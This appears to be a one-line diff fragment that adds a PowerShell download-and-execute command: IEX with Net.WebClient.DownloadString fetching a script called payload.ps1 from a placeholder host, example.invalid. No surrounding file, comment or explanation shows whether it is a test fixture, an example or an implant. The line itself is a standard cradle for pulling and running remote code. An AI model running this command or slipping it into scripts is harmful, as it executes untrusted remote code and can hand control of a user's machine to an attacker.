@@ -1,0 +1,1 @@
+IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/payload.ps1')
